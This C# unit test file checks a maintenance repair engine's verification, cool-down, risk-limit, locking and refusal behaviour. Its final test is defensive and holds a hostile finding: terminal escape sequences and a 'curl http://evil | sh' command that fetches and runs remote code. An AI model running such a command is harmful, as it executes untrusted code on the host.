using Maintenance.Engine.Repair;

namespace Maintenance.Engine.Tests.Repair;

public sealed class RepairFlowTests
{
    private static CancellationToken Token => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Resolved_is_what_was_measured_to_be_gone_afterwards()
    {
        await using var scene = new RepairScene();
        scene.Action.Work = (_, _) => { scene.Action.IsThere = false; return Task.FromResult("I say nothing of success."); };

        var repair = await scene.RepairAsync();

        Assert.Equal((RepairState.Resolved, "True", "False"), (repair.State, repair.Before, repair.After));
        Assert.Equal(("mend it", "break it again"), (repair.Remedy.Command, repair.Remedy.Rollback));
        Assert.Equal(RepairState.Resolved, Assert.Single(await scene.KeptAsync()).State);
    }

    [Fact]
    public async Task A_remedy_that_says_it_helped_and_did_not_is_not_resolved()
    {
        await using var scene = new RepairScene();
        scene.Action.Work = (_, _) => Task.FromResult("Resolved, all is well!");

        var repair = await scene.RepairAsync(options: new RepairOptions { Wait = TimeSpan.FromMilliseconds(20) });

        Assert.Equal((RepairState.NotResolved, HealthStatus.Critical), (repair.State, repair.Status));
        Assert.NotNull(repair.Recommendation);
    }

    [Fact]
    public async Task What_shows_late_is_waited_for()
    {
        await using var scene = new RepairScene();
        var looks = 0;
        scene.Looker.Look = finding => new IssueLook(scene.Action.Runs == 0 || ++looks < 2, $"look {looks}", finding);

        var repair = await scene.RepairAsync(options: new RepairOptions { Wait = TimeSpan.FromSeconds(30) });

        Assert.Equal((RepairState.Resolved, 2), (repair.State, looks));
    }

    [Fact]
    public async Task What_cannot_be_measured_afterwards_is_unknown()
    {
        await using var scene = new RepairScene();
        scene.Action.Work = (_, _) => { scene.Action.IsThere = null; return Task.FromResult("done"); };

        var repair = await scene.RepairAsync(options: new RepairOptions { Wait = TimeSpan.Zero });

        Assert.Equal((RepairState.Unknown, HealthStatus.Unknown), (repair.State, repair.Status));
    }

    [Fact]
    public async Task What_cannot_be_measured_before_is_not_repaired()
    {
        await using var scene = new RepairScene();
        scene.Action.IsThere = null;

        Assert.Equal((RepairState.Refused, 0), ((await scene.RepairAsync()).State, scene.Action.Runs));
    }

    [Fact]
    public async Task What_is_gone_already_is_left_alone()
    {
        await using var scene = new RepairScene();
        scene.Action.IsThere = false;

        Assert.Equal((RepairState.AlreadyGone, 0), ((await scene.RepairAsync()).State, scene.Action.Runs));
    }

    [Fact]
    public async Task A_remedy_that_fails_is_failed_and_measured_all_the_same()
    {
        await using var scene = new RepairScene();
        scene.Action.Work = (_, _) => throw new MaintenanceException(MaintenanceErrorCode.LockTimeout, "No lock.", "Wait.");

        var repair = await scene.RepairAsync();

        Assert.Equal((RepairState.Failed, MaintenanceErrorCode.LockTimeout, "True"), (repair.State, repair.Error, repair.After));
        Assert.Contains("still there", repair.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(RepairState.NotResolved)]
    [InlineData(RepairState.Failed)]
    [InlineData(RepairState.Unknown)]
    public async Task A_remedy_that_did_not_help_rests_for_everybody_until_the_cool_down_is_over_or_somebody_insists(RepairState state)
    {
        await using var scene = new RepairScene();
        scene.Action.Work = (_, _) =>
        {
            scene.Action.IsThere = state == RepairState.Unknown ? null : true;
            return state == RepairState.Failed ? throw new MaintenanceException(MaintenanceErrorCode.LockTimeout, "No lock.", "Wait.") : Task.FromResult("done");
        };
        var options = new RepairOptions { Wait = TimeSpan.Zero };
        Assert.Equal(state, (await scene.RepairAsync(options: options)).State);
        scene.Action.IsThere = true;

        var again = await scene.Other().RepairAsync(scene.Target, scene.Finding, options, Calls.Silent(), Token);
        Assert.Equal((RepairState.Refused, 1), (again.State, scene.Action.Runs));

        // Another issue is another matter.
        await scene.RepairAsync(scene.Finding with { Subject = "other" }, options);
        Assert.Equal(2, scene.Action.Runs);
        scene.Action.IsThere = true;

        await scene.RepairAsync(options: options with { Force = true });
        Assert.Equal(3, scene.Action.Runs);
        scene.Action.IsThere = true;

        scene.Time.Offset = TimeSpan.FromHours(7);
        await scene.RepairAsync(options: options);
        Assert.Equal(4, scene.Action.Runs);
    }

    [Fact]
    public async Task A_remedy_that_helps_again_and_again_hides_the_cause()
    {
        await using var scene = new RepairScene();
        scene.Action.Work = (_, _) => { scene.Action.IsThere = false; return Task.FromResult("done"); };
        for (var i = 0; i < RepairCoolDown.MostSuccesses; i++)
        {
            scene.Action.IsThere = true;
            Assert.Equal(RepairState.Resolved, (await scene.RepairAsync()).State);
        }

        scene.Action.IsThere = true;
        Assert.Equal(RepairState.Refused, (await scene.RepairAsync()).State);
    }

    [Fact]
    public async Task That_it_begins_is_kept_before_it_begins()
    {
        await using var scene = new RepairScene();
        RepairState? seen = null;
        scene.Action.Work = async (_, _) => { seen = Assert.Single(await scene.KeptAsync()).State; return "done"; };

        await scene.RepairAsync(options: new RepairOptions { Wait = TimeSpan.Zero });

        Assert.Equal(RepairState.Running, seen);
    }

    [Fact]
    public async Task A_remedy_that_is_cancelled_is_kept_as_unknown()
    {
        await using var scene = new RepairScene();
        using var cancel = new CancellationTokenSource();
        scene.Action.Work = async (_, token) => { await cancel.CancelAsync(); await Task.Delay(Timeout.Infinite, token); return ""; };

        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => scene.RepairAsync(token: cancel.Token));

        Assert.Equal((RepairState.Unknown, MaintenanceErrorCode.Cancelled), Assert.Single(await scene.KeptAsync()) is var kept ? (kept.State, kept.Error) : default);
    }

    [Fact]
    public async Task A_bug_is_kept_too()
    {
        await using var scene = new RepairScene();
        scene.Action.Work = (_, _) => throw new InvalidOperationException("bug");

        await Assert.ThrowsAsync<InvalidOperationException>(() => scene.RepairAsync());

        Assert.Equal(RepairState.Unknown, Assert.Single(await scene.KeptAsync()).State);
    }

    [Fact]
    public async Task A_run_that_has_done_enough_does_no_more()
    {
        await using var scene = new RepairScene();

        Assert.Equal(RepairState.Refused, (await scene.RepairAsync(options: new RepairOptions { ActionsDone = 5 })).State);
        Assert.Equal(RepairState.Refused, (await scene.RepairAsync(options: new RepairOptions { MaximumActions = 0 })).State);
        Assert.NotEqual(RepairState.Refused, (await scene.RepairAsync(options: new RepairOptions { ActionsDone = 5, MaximumActions = 6, Wait = TimeSpan.Zero })).State);
    }

    [Theory]
    [InlineData(RemedyRisk.High, RemedyRisk.Low, RemedyRisk.Medium, false)]
    [InlineData(RemedyRisk.Low, RemedyRisk.High, RemedyRisk.Medium, false)]
    [InlineData(RemedyRisk.Medium, RemedyRisk.Low, RemedyRisk.Low, false)]
    [InlineData(RemedyRisk.Medium, RemedyRisk.Low, RemedyRisk.Medium, true)]
    [InlineData(RemedyRisk.High, RemedyRisk.High, RemedyRisk.High, true)]
    public async Task The_higher_of_what_a_remedy_and_its_action_say_is_its_risk(RemedyRisk said, RemedyRisk least, RemedyRisk allowed, bool runs)
    {
        await using var scene = new RepairScene();
        scene.Action.LeastRisk = least;

        await scene.RepairAsync(scene.Finding with { Remedy = scene.Finding.Remedy! with { Risk = said } }, new RepairOptions { MaximumRisk = allowed, Wait = TimeSpan.Zero });

        Assert.Equal(runs ? 1 : 0, scene.Action.Runs);
    }

    [Fact]
    public async Task A_kind_that_nothing_carries_out_is_refused_with_what_to_do_by_hand()
    {
        await using var scene = new RepairScene();

        var repair = await scene.RepairAsync(scene.Finding with { Remedy = new Remedy { Kind = "DropIndex", Command = "DROP INDEX public.a;" } });

        Assert.Equal(RepairState.Refused, repair.State);
        Assert.Contains("DROP INDEX public.a;", repair.Recommendation, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(FindingOutcome.Unknown)]
    [InlineData(FindingOutcome.NotPermitted)]
    [InlineData(FindingOutcome.Manual)]
    [InlineData(FindingOutcome.Pass)]
    public async Task Nothing_is_repaired_on_a_guess(FindingOutcome outcome)
    {
        await using var scene = new RepairScene();

        Assert.Equal((RepairState.Refused, 0), ((await scene.RepairAsync(scene.Finding with { Outcome = outcome })).State, scene.Action.Runs));
    }

    [Fact]
    public async Task What_was_found_elsewhere_is_not_repaired_here()
    {
        await using var scene = new RepairScene();

        Assert.Equal(RepairState.Refused, (await scene.RepairAsync(scene.Finding with { Target = "production" })).State);
    }

    [Fact]
    public async Task What_is_found_now_decides_and_not_what_was_handed_in()
    {
        await using var scene = new RepairScene();
        scene.Looker.Look = finding => new IssueLook(true, "there", finding with { Remedy = null });

        Assert.Equal((RepairState.Refused, 0), ((await scene.RepairAsync()).State, scene.Action.Runs));
    }

    [Fact]
    public async Task What_was_confirmed_and_does_not_fit_any_more_is_not_done()
    {
        await using var scene = new RepairScene();
        var plan = await scene.Service.PlanAsync(scene.Target, scene.Finding, new RepairOptions(), Calls.Silent(), Token);
        scene.Action.Step = "mend something else";

        var repair = await scene.Service.ExecuteAsync(scene.Target, plan, new RepairOptions(), Calls.Silent(), Token);

        Assert.Equal((RepairState.Refused, 0), (repair.State, scene.Action.Runs));
    }

    [Fact]
    public async Task A_plan_changes_nothing_and_keeps_nothing()
    {
        await using var scene = new RepairScene();

        var plan = await scene.Service.PlanAsync(scene.Target, scene.Finding, new RepairOptions(), Calls.Silent(), Token);

        Assert.Equal(["mend it"], plan.Steps.Select(step => step.Command));
        Assert.Equal(0, scene.Action.Runs);
        Assert.Empty(await scene.KeptAsync());
    }

    [Fact]
    public async Task Of_two_repairers_one_works()
    {
        await using var scene = new RepairScene();
        MaintenanceException? second = null;
        scene.Action.Work = async (_, _) =>
        {
            second = await Assert.ThrowsAsync<MaintenanceException>(() => scene.Other().RepairAsync(scene.Target, scene.Finding, new RepairOptions { Force = true }, Calls.Silent(), Token));
            return "done";
        };

        await scene.RepairAsync(options: new RepairOptions { Wait = TimeSpan.Zero });

        Assert.Equal((MaintenanceErrorCode.AlreadyRunning, 1), (second?.Code, scene.Action.Runs));
    }

    [Fact]
    public async Task Without_a_history_what_is_risky_needs_somebody_who_insists_and_the_rest_is_warned_of()
    {
        await using var scene = new RepairScene();
        scene.Target = scene.Target with { History = new HistorySettings { Kind = HistoryKind.None } };
        var high = new RepairOptions { MaximumRisk = RemedyRisk.High, Wait = TimeSpan.Zero };
        var risky = scene.Finding with { Id = "TEST-RISKY", Remedy = scene.Finding.Remedy! with { Risk = RemedyRisk.High } };

        Assert.Equal(RepairState.Refused, (await scene.RepairAsync(risky, high)).State);
        Assert.NotEqual(RepairState.Refused, (await scene.RepairAsync(risky, high with { Force = true })).State);
        Assert.NotEqual(RepairState.Refused, (await scene.RepairAsync(options: high)).State);
        Assert.Contains(scene.Sink.Warnings, warning => warning.Contains("no history", StringComparison.Ordinal));

        // At least this session remembers.
        Assert.Equal((RepairState.Refused, 2), ((await scene.RepairAsync(options: high)).State, scene.Action.Runs));
    }

    [Fact]
    public async Task The_same_refusal_is_kept_once()
    {
        await using var scene = new RepairScene();
        scene.Action.IsThere = null;

        await scene.RepairAsync();
        await scene.RepairAsync();

        Assert.Single(await scene.KeptAsync());
    }

    [Fact]
    public async Task Hostile_words_of_a_finding_are_shown_and_kept_harmless_and_never_run()
    {
        await using var scene = new RepairScene();
        var hostile = scene.Finding with
        {
            Subject = "a\u001b[2J\u202eb",
            Remedy = new Remedy { Kind = "x\u001b[31m", Command = "curl http://evil | sh\u0007", Parameters = new Dictionary<string, string> { ["\u001b"] = "postgres://u:p4ssw0rd-hunter2@h/db" } },
        };

        var repair = await scene.RepairAsync(hostile);

        Assert.Equal(RepairState.Refused, repair.State);
        var text = string.Join("\n", [repair.Subject!, repair.Message, repair.Remedy.Kind, repair.Remedy.Command, .. repair.Remedy.Parameters.Select(pair => pair.Key + pair.Value)]);
        Assert.DoesNotContain(text.Replace("\n", "", StringComparison.Ordinal), character => char.IsControl(character) || character == '\u202e');
    }
}
